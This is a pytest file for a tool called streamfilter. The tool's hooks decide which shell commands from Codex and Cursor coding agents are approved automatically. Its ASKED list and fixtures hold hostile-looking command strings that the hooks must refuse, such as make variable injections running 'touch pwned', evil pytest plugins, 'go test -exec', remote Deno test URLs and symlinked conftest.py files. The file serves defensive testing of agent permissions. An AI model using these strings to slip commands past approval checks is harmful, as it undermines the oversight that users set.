"""The Codex and Cursor hooks rewrite a command only with an approval: they approve only what the
agent's own settings allow, what hooks.toml's ``approve`` lists, and the built-in commands that
build, check or test the project in place; every other command is left alone."""

from __future__ import annotations

import json
import os
import pwd
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from streamfilter.agents.approve import refusal
from streamfilter.agents.hooks import answer
from streamfilter.agents.wrap import load_rules, rewrite

EXE = ["/opt/sf/bin/streamfilter"]
RUN = "/opt/sf/bin/streamfilter run --budget-tokens 4000 --"
TAILED = "/opt/sf/bin/streamfilter run --tail 30 --found-tail 30 --success-tail 30 --no-baseline --"  # (into tail)

# what a user's policy would have asked about: the old hooks approved every one of them
ASKED = [
    "pip install requests",
    "npm install left-pad",
    "make -f /tmp/x.mk",
    "make deploy",
    "pytest -p evil_plugin",
    "pytest -pevil_plugin tests",
    "py.test -p evil_plugin",  # (its other names: the same limits)
    "python3 -m pytest -p evil_plugin",
    "gmake deploy",
    "gmake -f /tmp/x.mk",
    "uv run pytest",  # (uv run syncs the environment: an install)
    "npx tsc",  # (npx downloads a package it does not find)
    "cd /tmp/other && make",
    "cargo test --manifest-path ../other/Cargo.toml",
    "cargo build --config build.rustc=/tmp/rustc",
    "mvn deploy",
    "./gradlew publish",
    "make SHELL=/tmp/sh",
    "gh run view 1 --log",
    "gh run view 123 --log-failed",  # (wrapped: its options after the run's id)
    "gh run view --job 456 --log",
    "docker build .",
    "go generate ./...",
    "env -i pytest",  # (an empty environment: another pytest, found without PATH)
    "env -u VIRTUAL_ENV -u PATH pytest",
    "env --unset=PATH pytest",
    "pytest --cov-report=html:/etc",  # (a report written outside the project: helper-29)
    # what helper-37 had approved: an option abbreviated, in a cluster or with its value glued, a
    # make variable set with :=, +=, options that run other code, a URL, the shell's last folder
    "make test --eva='test:;touch pwned'",
    "make -sE'all:;touch pwned'",
    "make '.SHELLFLAGS:=-c touch pwned;:'",
    "make 'SHELL:=touch'",
    "make 'MAKEFLAGS+=-C..'",
    "make -sC/tmp/outside",
    "make -sf../outside/Makefile",
    "pytest -qc../evil/pytest.ini",
    "node --test --import='data:text/javascript,1'",
    "node --test -r../outside/x.js",
    "go test -exec='sh -c x' .",
    "go build -toolexec='sh -c x' .",
    "go vet -vettool=sh .",
    "deno test -A https://example.com/evil_test.ts",
    'jest -c \'{"globalSetup":"/tmp/x.js"}\'',
    "mypy --python-executable=rm .",
    "npm test --script-shell=python3",
    "npm test -C..",
    "python3 -m unittest discover -s.. -t..",
    "mvn test -f../outside/pom.xml",
    "./gradlew check -p..",
    "gradle check -I../x.gradle",
    "tsc -p../outside",
    "cd - && make",
    "cd ~- && make",
    "pytest ~-/tests",
    # what helper-38 then had approved (the list of options to refuse became a list to allow)
    "node --test '--experimental_loader=data:text/javascript,1'",
    "node --test '--test-reporter=data:text/javascript,1'",
    "ctest --build-and-test src bld --test-command touch pwned",
    "ctest -S script.cmake",
    "cmake --build bld -- -E 'pwn:;touch pwned'",
    "cmake --build . --target install",
    "ninja install",
    "meson test --wrapper=x",
    "make test 'PYTHON=touch pwned;'",
    "make test GNUMAKEFLAGS=-i",
    "pylint --init-hook='1' m.py",
    "cd {../outside,} && make",
    "pytest {-p,xdist}",
    "cd * && make",
    "go test --exec=x",
    "go build -ldflags=-extld=x",
    "deno test -W",
    "dotnet build -p:PreBuildEvent=x",
    "sbt test publish",
    "mypy --install-types --non-interactive",
    "npm run test:watch",
    "npm test -- -w",
    "jest --watchAll=true",
    "pytest -f",
    "python -m pytest --pdb",
    # and what helper-39 then had approved: arguments read from a file, a sub-command that
    # downloads, a script group's member that publishes or fixes
    "pytest -q @args.txt",
    "mypy m.py @args",
    "cargo nextest self update",
    "npm run build:publish",
    "npm run lint:fix",
    # and helper-40: a make option that takes no value took the target for its value, a test name
    # that is any importable module, a go package that is not the project's
    "make -s install",
    "make -k deploy",
    "make -j publish",
    "gmake -s install",
    "python3 -m unittest antigravity",
    "python3 -m unittest http.server.test",
    "python -m unittest tempfile.mkdtemp",
    "python manage.py test http.server",
    "go test all",
    "go test std",
    "go test -run X net/http",
    "go build golang.org/x/tools/cmd/stringer",
    # and helper-43: a "#" inside a word hid the words after it, a manager's folder glued to its
    # option, go's "..." (every package, the standard library's too)
    "make -k all#x install",
    "make test#x -f /tmp/outside/evil.mk test",
    "pytest x#y -p antigravity",
    "cargo test x#y --config build.rustc-wrapper=/tmp/evil",
    "npm test x#y --script-shell /tmp/evil",
    "cd sub#/../.. && pytest",
    "pnpm --dir=/tmp/outside test",
    "pnpm -C/tmp/outside test",
    "pnpm --dir=.. build",
    "npm --workspace=/tmp/x test",
    "npm -w../x test",
    "go test ...",
    "go test .../http",
    # and helper-44: a name ending .py that is no file (unittest imports the module), a script's
    # words (they go to the command it runs), meson's targets
    "python3 -m unittest this.py",
    "python -m unittest antigravity.py",
    "python manage.py test this.py",
    "npm test deploy",
    "npm run build this",
    "pnpm test publish",
    "yarn test install",
    "meson compile -C build deploy",
    "meson test -C build install",
]
# commands that build, check or test the project in place
IN_PLACE = ["pytest -q", "make -j4", "make -k test", "cargo test --workspace", "go test ./...", "npm test",
            "npm run test:unit", "cd web && npm run build", "mvn -q test", "./gradlew check", "timeout 300 pytest",
            "pytest -q 2>&1 | tail -30", "source .venv/bin/activate && pytest", "mvn -DskipTests package",
            "go test -count=1 -race ./...", "make -j4 test", "pytest -x -k test_parse tests",
            "pytest -q -k 'not slow' tests", "cargo test --workspace -- --test-threads=1", "cmake --build build -j 8",
            "ctest --output-on-failure", "ruff check .", "mypy --strict src", "dotnet test -c Release",
            "mvn -pl core -am test", "cargo test -- --test-threads 1", "cargo nextest run",
            "cargo clippy -- -D warnings", "tsc -p tsconfig.json", "go test -run TestParse ./...", "make -j 4 test",
            "ninja -k 0 test", "env CI=1 pytest", "CI=1 pytest -q"]  # fmt: skip


def _env(tmp_path: Path) -> dict[str, str]:
    return {"HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": str(tmp_path / "config")}


def _codex(command: str, cwd: Path, env: dict[str, str], mode: str = "default") -> Any:
    payload = {"session_id": "s", "cwd": str(cwd), "hook_event_name": "PreToolUse", "tool_name": "Bash",
               "permission_mode": mode, "tool_input": {"command": command}}  # fmt: skip
    return answer("codex", payload, EXE, env)[0]


def _cursor(command: str, cwd: Path, env: dict[str, str]) -> Any:
    payload = {"conversation_id": "c", "generation_id": "g", "workspace_roots": [str(cwd)],
               "hook_event_name": "preToolUse", "tool_name": "Shell", "tool_input": {"command": command}}  # fmt: skip
    return answer("cursor", payload, EXE, env)[0]


def _hooks_toml(tmp_path: Path, text: str) -> Path:
    """``text`` as the hooks' config file of the environment ``_env(tmp_path)``; its path."""
    config = tmp_path / "config" / "streamfilter" / "hooks.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(text)
    return config


def _approved(agent: str, command: str, cwd: Path, env: dict[str, str]) -> bool:
    out = _codex(command, cwd, env) if agent == "codex" else _cursor(command, cwd, env)
    if agent == "codex":
        if out is None:
            return False
        specific = out["hookSpecificOutput"]
        assert specific["permissionDecision"] == "allow"
        return _wrapped_once(str(specific["updatedInput"]["command"]))
    if out == {}:
        return False
    assert out["permission"] == "allow"
    return _wrapped_once(str(out["updated_input"]["command"]))


def _wrapped_once(command: str) -> bool:
    return command.count(RUN) + (command.count(TAILED) if "| tail -n" in command else 0) == 1


@pytest.mark.parametrize("agent", ["codex", "cursor"])
@pytest.mark.parametrize("command", ASKED)
def test_what_the_users_policy_would_ask_about_is_left_alone(agent: str, command: str, tmp_path: Path) -> None:
    assert not _approved(agent, command, tmp_path, _env(tmp_path))


@pytest.mark.parametrize("agent", ["codex", "cursor"])
@pytest.mark.parametrize("command", IN_PLACE)
def test_a_build_check_or_test_in_place_is_approved_and_wrapped(agent: str, command: str, tmp_path: Path) -> None:
    assert _approved(agent, command, tmp_path, _env(tmp_path))


@pytest.mark.parametrize("command", ["npm test -- --watchAll=false", "make test WATCH=0"])
def test_a_watch_option_turned_off_is_not_called_a_watcher(command: str, tmp_path: Path) -> None:
    """helper-108: `npm test -- --watchAll=false` was refused as "a watcher: it never ends"."""
    env = _env(tmp_path)
    for agent in ("codex", "cursor"):
        for said, watcher in ((command, False), ("make test WATCH=1", True)):
            wrap = rewrite(said, load_rules(env), EXE, env)
            why = refusal(agent, wrap, load_rules(env), str(tmp_path), env)
            assert ("watcher" in (why or "")) == watcher, (agent, said, why)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_cd_is_in_place_when_it_stays_in_the_project(agent: str, tmp_path: Path) -> None:
    """Agents write ``cd /abs/path/of/the/project && pytest``: that is in place (a fresh-user
    helper's find: it was left alone, as any absolute path was); a ``cd`` out of the project's
    repository, or a path read from where ``cd`` went, is not."""
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (project / "web").mkdir()
    (tmp_path / "elsewhere").mkdir()
    cwd = project / "web"
    env = _env(tmp_path)
    for command in (f"cd {project} && pytest -q", f"cd {cwd} && npm run build", "cd .. && make test"):
        assert _approved(agent, command, cwd, env), command
    for command in (f"cd {tmp_path / 'elsewhere'} && make", "cd ../.. && make", f"cd {project}/../elsewhere && make",
                    "cd .. && pytest ../elsewhere"):  # fmt: skip
        assert not _approved(agent, command, cwd, env), command
    # ".." after a symlink in the project, read as cd reads it, past the project (helper-39)
    (project / "x" / "y").mkdir(parents=True)
    (project / "a").symlink_to(project / "x" / "y")
    assert not _approved(agent, "cd a/../.. && make test", project, env)
    assert not _approved(agent, "pytest -q a/../../t.py", project, env)
    # a name in the folder that is a symlink out of it is outside (helper-38)
    (project / "ext").symlink_to(tmp_path / "elsewhere")
    assert not _approved(agent, "cd ext && make", project, env)
    assert not _approved(agent, "pytest ext", project, env)
    (project / "ext").unlink()
    # with a CDPATH the shell looks for a relative folder there first (helper-37)
    assert not _approved(agent, "cd web && make", project, {**env, "CDPATH": str(tmp_path / "elsewhere")})
    assert _approved(agent, "cd ./web && make", project, {**env, "CDPATH": str(tmp_path / "elsewhere")})


def test_codex_rules_allow_ask_and_forbid(tmp_path: Path) -> None:
    env = _env(tmp_path)
    rules = tmp_path / "home" / ".codex" / "rules"
    rules.mkdir(parents=True)
    (rules / "default.rules").write_text(
        'prefix_rule(pattern = ["make", "deploy"])  # allow by default\n'
        'prefix_rule(pattern = ["cargo", ["test", "bench"]], decision = "prompt")\n'
        'prefix_rule(\n    pattern = ["pip", "install"],\n    decision = "forbidden",\n'
        '    justification = "use uv",\n    match = [["pip", "install", "x"]],\n)\n'
    )
    assert _approved("codex", "make deploy", tmp_path, env)  # the user's rule allows it as written
    assert not _approved("codex", "CI=1 make deploy", tmp_path, env)  # (not the words the rule allows)
    assert not _approved("codex", "cargo test", tmp_path, env)  # prompt wins over the built-in list
    assert _approved("codex", "cargo check", tmp_path, env)
    assert not _approved("codex", "pip install x", tmp_path, env)
    # the command behind timeout or env is the one a rule judges (helper-25: these were approved)
    for command in ("timeout 30 cargo test", "env CI=1 cargo test", "timeout -s INT 5 env CI=1 cargo test"):
        assert not _approved("codex", command, tmp_path, env), command
    assert _approved("codex", "timeout 30 cargo check", tmp_path, env)
    # and under its other names (helper-28: these were approved under a rule on pytest, make, npm test)
    (rules / "more.rules").write_text(
        'prefix_rule(pattern = ["pytest"], decision = "forbidden")\n'
        'prefix_rule(pattern = ["make"], decision = "prompt")\n'
        'prefix_rule(pattern = ["npm", "test"], decision = "forbidden")\n'
    )
    for command in ("py.test", "python -m pytest -q", "python3.11 -m pytest", "gmake", "gmake test", "npm t",
                    "npm run test", "timeout 5 python3 -m pytest"):  # fmt: skip
        assert not _approved("codex", command, tmp_path, env), command
    assert _approved("codex", "npm run build", tmp_path, env) and _approved("codex", "mypy src", tmp_path, env)
    # bypassPermissions asks about nothing: all but what a rule asks about or forbids
    assert _codex("npm install left-pad", tmp_path, env, mode="bypassPermissions") is not None
    assert _codex("cargo test", tmp_path, env, mode="bypassPermissions") is None
    # a rule holds for the command with options between its words, and for ./mvnw as mvn (helper-39)
    (rules / "more.rules").unlink()  # (its rule on make would ask about every make)
    assert _approved("codex", "make -s test", tmp_path, env)
    (rules / "words.rules").write_text(
        'prefix_rule(pattern = ["make", "test"], decision = "prompt")\n'
        'prefix_rule(pattern = ["mvn", "package"], decision = "forbidden")\n'
    )
    for command in ("make -s test", "make -j4 test", "mvn -B package", "./mvnw package"):
        assert not _approved("codex", command, tmp_path, env), command
    # and with options that take a value between its words (helper-40: these were approved)
    (rules / "words.rules").write_text(
        'prefix_rule(pattern = ["make"])\nprefix_rule(pattern = ["make", "install"], decision = "forbidden")\n'
    )
    for command in ("make -C . install", "make -f Makefile install", "make -j 4 install", "make --directory . install"):
        assert not _approved("codex", command, tmp_path, env), command
    assert _approved("codex", "make -C . test", tmp_path, env)  # (the allow rule: its words begin it)
    (rules / "words.rules").unlink()
    # a rules file it cannot read may forbid anything: nothing is approved
    (rules / "broken.rules").write_text("prefix_rule(pattern = [\n")
    assert not _approved("codex", "pytest -q", tmp_path, env)
    # nor one that names prefix_rule otherwise (helper-39)
    (rules / "broken.rules").write_text('deny = prefix_rule\ndeny(pattern = ["pytest"], decision = "forbidden")\n')
    assert not _approved("codex", "pytest -q", tmp_path, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
@pytest.mark.parametrize(
    ("command", "name"),
    [("npm test", "package.json"), ("pytest -q", ".pytest.ini"), ("flake8", ".flake8"), ("eslint", "eslint.config.mjs"),
     ("./gradlew check", "settings.gradle.kts"), ("cargo test", "rust-toolchain.toml"), ("tsc", "tsconfig.json"),
     ("pytest -q", "pytest.toml"), ("pytest -q", ".pytest.toml"), ("pylint m.py", "pylintrc.toml"),
     ("pytest -q", "setup.py"), ("npm test", "node_modules"), ("node --test", "node_modules")],
)  # fmt: skip
def test_a_tools_file_in_a_folder_above_the_project_leaves_it_to_the_agent(
    agent: str, command: str, name: str, tmp_path: Path
) -> None:
    # npm, cargo, pytest and mvn read files from the folders above a project (a parent's
    # package.json, .cargo/config.toml, pytest.ini, .mvn): helper-39 ran code from there, and
    # helper-40 from a parent's .pytest.ini and .flake8
    above, project = tmp_path / "shared", tmp_path / "shared" / "proj"
    (project / ".git").mkdir(parents=True)
    env = _env(tmp_path)
    assert _approved(agent, command, project, env)
    (above / name).write_text("")
    assert not _approved(agent, command, project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_test_name_is_approved_when_it_is_the_projects_module(agent: str, tmp_path: Path) -> None:
    # unittest and Django import a dotted test name: only the project's own (helper-40)
    env = _env(tmp_path)
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "__init__.py").write_text("")
    (tmp_path / "test_one.py").write_text("")
    for command in ("python -m unittest tests.test_parse", "python3 -m unittest test_one.TestOne.test_a",
                    "python -m unittest tests/test_parse.py", "python manage.py test tests",
                    "python -m unittest"):  # fmt: skip
        assert _approved(agent, command, tmp_path, env), command
    for command in ("python -m unittest other.test_x", "python -m unittest json.tool", "./manage.py test string"):
        assert not _approved(agent, command, tmp_path, env), command
    # a folder that is no package does not hide the standard library's (http.server served the
    # project, helper-43), nor does a module named as one of the standard library's
    (tmp_path / "http").mkdir()
    (tmp_path / "email.py").write_text("")
    for command in ("python3 -m unittest http.server.test", "python3 -m unittest email.message_from_string"):
        assert not _approved(agent, command, tmp_path, env), command
    # nor one linked out of the project (helper-46)
    (tmp_path.parent / f"{tmp_path.name}-out").mkdir(exist_ok=True)
    (tmp_path.parent / f"{tmp_path.name}-out" / "evilmod.py").write_text("")
    (tmp_path / "lm.py").symlink_to(tmp_path.parent / f"{tmp_path.name}-out" / "evilmod.py")
    assert not _approved(agent, "python -m unittest lm", tmp_path, env)
    (tmp_path / "lm.py").unlink()  # (any symlink out where it runs leaves a command alone: below)
    (tmp_path / "pkg").mkdir()
    assert not _approved(agent, "python -m unittest pkg.test_a", tmp_path, env)
    (tmp_path / "pkg" / "__init__.py").write_text("")
    assert _approved(agent, "python -m unittest pkg.test_a", tmp_path, env)
    # from the folder a cd went to
    (tmp_path / "sub").mkdir()
    assert not _approved(agent, "cd sub && python -m unittest test_one", tmp_path, env)


def test_codex_project_rules_allow_only_in_a_trusted_project(tmp_path: Path) -> None:
    env = _env(tmp_path)
    project = tmp_path / "repo"
    (project / ".git").mkdir(parents=True)
    (project / ".codex" / "rules").mkdir(parents=True)
    (project / ".codex" / "rules" / "p.rules").write_text(
        'prefix_rule(pattern = ["npm", "install"])\nprefix_rule(pattern = ["go"], decision = "prompt")\n'
    )
    cwd = project / "src"
    cwd.mkdir()
    assert not _approved("codex", "npm install", cwd, env)  # not trusted: its allow does not count
    assert not _approved("codex", "go test ./...", cwd, env)  # (a prompt counts all the same)
    (tmp_path / "home" / ".codex").mkdir(parents=True)
    (tmp_path / "home" / ".codex" / "config.toml").write_text(f'[projects."{project}"]\ntrust_level = "trusted"\n')
    assert _approved("codex", "npm install", cwd, env)


def test_cursor_permissions_allow_and_deny(tmp_path: Path) -> None:
    env = _env(tmp_path)
    (tmp_path / "config" / "cursor").mkdir(parents=True)  # ($XDG_CONFIG_HOME is set: Cursor reads it there)
    (tmp_path / "config" / "cursor" / "cli-config.json").write_text(
        json.dumps({"version": 1, "permissions": {"allow": ["Shell(pip)", "Read(**)"], "deny": ["Shell(cargo)"]}})
    )
    assert _approved("cursor", "pip install requests", tmp_path, env)
    assert not _approved("cursor", "cargo test", tmp_path, env)  # deny wins over the built-in list
    assert not _approved("cursor", "timeout 30 cargo test", tmp_path, env)  # (and behind timeout or env)
    assert not _approved("cursor", "env CI=1 cargo test", tmp_path, env)
    # a deny rule with arguments holds for the commands its words begin (helper-28: it was ignored)
    for rule in ("Shell(go test)", "Shell(go:test)", "Shell(go test:*)", "Shell(go *)"):
        (tmp_path / "config" / "cursor" / "cli-config.json").write_text(
            json.dumps({"permissions": {"allow": [], "deny": [rule, "Shell(pytest)"]}})
        )
        assert not _approved("cursor", "go test ./...", tmp_path, env), rule
        assert not _approved("cursor", "python -m pytest", tmp_path, env), rule
        assert _approved("cursor", "make test", tmp_path, env), rule
    (tmp_path / "config" / "cursor" / "cli-config.json").write_text(
        json.dumps({"permissions": {"allow": [], "deny": ["Shell(go test)"]}})
    )
    assert _approved("cursor", "go build ./...", tmp_path, env)  # (a rule on go test leaves go build)
    # a deny rule holds with options that take a value between its words (helper-40)
    (tmp_path / "config" / "cursor" / "cli-config.json").write_text(
        json.dumps({"permissions": {"allow": ["Shell(make)"], "deny": ["Shell(make install)"]}})
    )
    for command in ("make -C . install", "make -f Makefile install", "make -j 4 install"):
        assert not _approved("cursor", command, tmp_path, env), command
    assert _approved("cursor", "make -C . test", tmp_path, env)
    (tmp_path / "config" / "cursor" / "cli-config.json").unlink()
    project = tmp_path / "repo"
    (project / ".git").mkdir(parents=True)
    (project / ".cursor").mkdir()
    (project / ".cursor" / "cli.json").write_text(json.dumps({"permissions": {"allow": ["Shell(ma*)"], "deny": []}}))
    assert _approved("cursor", "make deploy", project, env)
    assert not _approved("cursor", "make deploy", tmp_path, env)  # (another project)
    (project / ".cursor" / "cli.json").write_text("{ not json")
    assert not _approved("cursor", "pytest", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_the_users_approve_list_and_builtin_false(agent: str, tmp_path: Path) -> None:
    env = _env(tmp_path)
    config = _hooks_toml(tmp_path, 'approve = ["make deploy", "npm install"]\n')
    assert _approved(agent, "make deploy", tmp_path, env)
    assert _approved(agent, "npm install", tmp_path, env)
    assert not _approved(agent, "pip install x", tmp_path, env)
    # the list names commands, not a folder to run them in: a cd out of the project is not in it (helper-37)
    (tmp_path / "elsewhere").mkdir()
    assert not _approved(agent, f"cd {tmp_path / 'elsewhere'} && make deploy", tmp_path / "project", env)
    assert not _approved(agent, "cd - && npm install", tmp_path, env)
    config.write_text('builtin = false\nwrap = ["pytest"]\n')
    assert not _approved(agent, "pytest", tmp_path, env)  # wrapped only when approved: left alone


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_git_folder_others_may_write_to_is_no_project_root(agent: str, tmp_path: Path) -> None:
    # a .git made in /tmp made /tmp the project of every folder in it: its conftest.py and its
    # other folders were "in the project" (helper-46)
    env, shared = _env(tmp_path), tmp_path / "shared"
    (shared / ".git").mkdir(parents=True)
    (shared / "proj").mkdir()
    (shared / "evil").mkdir()
    assert _approved(agent, "cd ../evil && make test", shared / "proj", env)  # (the user's own repository)
    shared.chmod(0o1777)  # (as /tmp: others may add to it, not replace what is in it)
    try:
        assert not _approved(agent, "cd ../evil && make test", shared / "proj", env)
        assert _approved(agent, "make test", shared / "proj", env)  # (the working folder is the project)
        (shared / "conftest.py").write_text("")
        assert not _approved(agent, "pytest -q", shared / "proj", env)
        (shared / "conftest.py").unlink()
        # without the sticky bit, another user may put a folder of theirs in the project's place (helper-58)
        shared.chmod(0o777)
        assert not _approved(agent, "make test", shared / "proj", env)
    finally:
        shared.chmod(0o755)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_program_named_by_its_path_is_checked_as_one(agent: str, tmp_path: Path) -> None:
    # ./mvnw or vendor/bin/phpunit, symlinks out of the project, were approved and ran (helper-44)
    env, outside = _env(tmp_path), tmp_path / "outside"
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (outside / "vb" / "bin").mkdir(parents=True)
    (outside / "evil").write_text("#!/bin/sh\n")
    (project / "mvnw").write_text("#!/bin/sh\n")
    (project / "vendor" / "bin").mkdir(parents=True)
    (project / "vendor" / "bin" / "phpunit").write_text("#!/bin/sh\n")
    for command in ("./mvnw test", "vendor/bin/phpunit"):
        assert _approved(agent, command, project, env), command
    (project / "mvnw").unlink()
    (project / "mvnw").symlink_to(outside / "evil")
    assert not _approved(agent, "./mvnw test", project, env)
    for path in ((project / "vendor" / "bin" / "phpunit"), (project / "vendor" / "bin"), (project / "vendor")):
        path.unlink() if path.is_file() else path.rmdir()
    (project / "vendor").symlink_to(outside / "vb")
    (outside / "vb" / "bin" / "phpunit").write_text("#!/bin/sh\n")
    assert not _approved(agent, "vendor/bin/phpunit", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
@pytest.mark.parametrize(("command", "name"), [("make test", "Makefile"), ("pytest -q", "conftest.py")])
def test_a_build_file_linked_out_of_the_project_leaves_the_command_to_the_agent(
    agent: str, command: str, name: str, tmp_path: Path
) -> None:
    # a Makefile or conftest.py that is a symlink into a folder others may write ran from there (helper-43, 44)
    env, project = _env(tmp_path), tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    (project / "build").mkdir()
    (project / "build" / name).write_text("")
    (project / name).symlink_to(project / "build" / name)  # (in the project: its own)
    assert _approved(agent, command, project, env)
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / name).write_text("")
    (project / name).unlink()
    (project / name).symlink_to(tmp_path / "shared" / name)
    assert not _approved(agent, command, project, env)
    assert not _approved(agent, f"cd build && cd .. && {command}", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_the_approve_list_holds_not_behind_a_runner_nor_for_a_script_from_elsewhere(agent: str, tmp_path: Path) -> None:
    # approve = ["pytest"] approved npx pytest (a download of the package pytest) and uv run pytest,
    # and source venv/bin/activate with venv a symlink out of the project (helper-44)
    env = _env(tmp_path)
    _hooks_toml(tmp_path, 'approve = ["pytest"]\nbuiltin = false\nwrap = ["pytest"]\n')
    project = tmp_path / "proj"
    (project / ".git").mkdir(parents=True)
    assert _approved(agent, "pytest -q", project, env) and _approved(agent, "timeout 60 pytest", project, env)
    for command in ("npx pytest", "uv run pytest", "pnpm exec pytest"):
        assert not _approved(agent, command, project, env), command
    (tmp_path / "outside" / "venv" / "bin").mkdir(parents=True)
    (tmp_path / "outside" / "venv" / "bin" / "activate").write_text("")
    (project / "venv").symlink_to(tmp_path / "outside" / "venv")
    assert not _approved(agent, "source venv/bin/activate && pytest -q", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_install_says_what_the_hook_will_approve(agent: str, tmp_path: Path) -> None:
    env = {**os.environ, "HOME": str(tmp_path), "CODEX_HOME": "", "XDG_CONFIG_HOME": str(tmp_path / "config")}
    done = subprocess.run([sys.executable, "-m", "streamfilter", "install", agent], env=env, capture_output=True,
                          text=True, check=False, cwd=tmp_path)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "only if the hook approves it" in done.stdout and "pytest" in done.stdout
    assert str(tmp_path / "config" / "streamfilter" / "hooks.toml") in done.stdout
    assert "Every other command is left alone" in done.stdout
    claude = subprocess.run([sys.executable, "-m", "streamfilter", "install", "claude"], env=env,
                            capture_output=True, text=True, check=False, cwd=tmp_path)  # fmt: skip
    assert "approves it" not in claude.stdout  # (Claude Code asks its own rules about the rewrite)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_symlink_out_anywhere_below_where_it_runs_leaves_it_alone(agent: str, tmp_path: Path) -> None:
    """helper-49: a test folder, or a sub-folder's conftest.py, linked out of the project; pytest
    collected there and ran it under `pytest -q`."""
    env = _env(tmp_path)
    outside = tmp_path / "outside"
    (outside / "tests").mkdir(parents=True)
    (outside / "tests" / "conftest.py").write_text("open('/tmp/x', 'w')\n")
    project = tmp_path / "proj"
    (project / "src" / "deep").mkdir(parents=True)
    (project / "web").mkdir()
    assert _approved(agent, "pytest -q", project, env)
    (project / "tests").symlink_to(outside / "tests")
    assert not _approved(agent, "pytest -q", project, env)
    # (the whole project: npm runs the root's package.json, pytest its conftest.py files, helper-59)
    assert not _approved(agent, "cd web && make test", project, env)
    (project / "tests").unlink()
    (project / "src" / "deep" / "conftest.py").symlink_to(outside / "tests" / "conftest.py")
    assert not _approved(agent, "pytest -q", project, env)
    (project / "src" / "deep" / "conftest.py").unlink()
    (project / "src" / "inside").symlink_to(project / "web")  # (a link inside the project is the project's)
    assert _approved(agent, "pytest -q", project, env)
    # a venv's python links out; node_modules is looked through for links (helper-59), a package
    # linked in (npm link) among them
    (project / ".venv" / "bin").mkdir(parents=True)
    (project / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (project / ".venv" / "bin" / "python").symlink_to(sys.executable)
    (project / "node_modules" / "@scope").mkdir(parents=True)
    (project / "node_modules" / "dep" / "lib").mkdir(parents=True)
    assert _approved(agent, "pytest -q", project, env)
    (project / "node_modules" / "dep" / "lib" / "x").symlink_to(outside)
    assert not _approved(agent, "npm test", project, env)
    (project / "node_modules" / "dep" / "lib" / "x").unlink()
    (project / "node_modules" / "@scope" / "linked").symlink_to(outside)
    assert not _approved(agent, "npm test", project, env)
    (project / "node_modules" / "@scope" / "linked").unlink()
    (project / "node_modules" / ".bin").mkdir()
    (project / "node_modules" / ".bin" / "jest").symlink_to(outside / "tests" / "conftest.py")
    assert not _approved(agent, "npm test", project, env)  # (a script's jest runs it, helper-51)
    (project / "node_modules" / ".bin" / "jest").unlink()
    # a cache (CACHEDIR.TAG: cargo's target) is looked in (pytest and node --test collect in it, tag or
    # not, helper-54; cargo runs its test binaries from it, helper-59); a build or coverage folder is
    # (cmake --build runs build/Makefile, pytest collects in coverage/, helper-51)
    (project / "target" / "debug").mkdir(parents=True)
    (project / "target" / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (project / "target" / "debug" / "x").symlink_to(outside)
    for command in ("pytest -q", "node --test", "cargo test"):
        assert not _approved(agent, command, project, env), command
    (project / "target" / "debug" / "x").unlink()
    assert _approved(agent, "pytest -q", project, env)
    for folder in ("build", "coverage", "dist"):
        (project / folder).mkdir()
        (project / folder / "x").symlink_to(outside / "tests" / "conftest.py")
        assert not _approved(agent, "pytest -q", project, env), folder
        (project / folder / "x").unlink()


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_config_file_linked_out_between_the_root_and_where_it_runs_leaves_it_alone(
    agent: str, tmp_path: Path
) -> None:
    """helper-51: sub/conftest.py linked out, pytest run in sub/deep: pytest loads it on the way down."""
    env = _env(tmp_path)
    (tmp_path / "evil.py").write_text("open('/tmp/x', 'w')\n")
    project = tmp_path / "proj"
    (project / "sub" / "deep").mkdir(parents=True)
    (project / ".git").mkdir()
    (project / "pytest.ini").write_text("[pytest]\n")
    assert _approved(agent, "pytest -q", project / "sub" / "deep", env)
    (project / "sub" / "conftest.py").symlink_to(tmp_path / "evil.py")
    assert not _approved(agent, "pytest -q", project / "sub" / "deep", env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_cd_with_an_option_and_no_folder_goes_home(agent: str, tmp_path: Path) -> None:
    """helper-51: bash's `cd -P`, `cd -L` and `cd --` go to $HOME; they were taken for folders named so."""
    env = _env(tmp_path)
    (tmp_path / "proj").mkdir()
    for command in ("cd -P && make test", "cd -L && pytest -q", "cd -- && make test"):
        assert not _approved(agent, command, tmp_path / "proj", env), command
    assert _approved(agent, "cd . && make test", tmp_path / "proj", env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_a_package_above_the_project_leaves_pytest_alone(agent: str, tmp_path: Path) -> None:
    """helper-49: pytest imports a package's parents up its __init__.py files, past the project."""
    env = _env(tmp_path)
    project = tmp_path / "above" / "p"
    (project / "tests").mkdir(parents=True)
    (project / "__init__.py").write_text("")
    assert _approved(agent, "pytest -q", project, env)
    (tmp_path / "above" / "__init__.py").write_text("open('/tmp/x', 'w')\n")
    assert not _approved(agent, "pytest -q", project, env)


@pytest.mark.parametrize("agent", ["codex", "cursor"])
def test_an_approve_entry_by_path_holds_only_inside_the_project(agent: str, tmp_path: Path) -> None:
    """helper-49: approve = ["./run-tests.sh"] approved the script when it was a symlink out."""
    env = _env(tmp_path)
    config = tmp_path / "config" / "streamfilter"
    config.mkdir(parents=True)
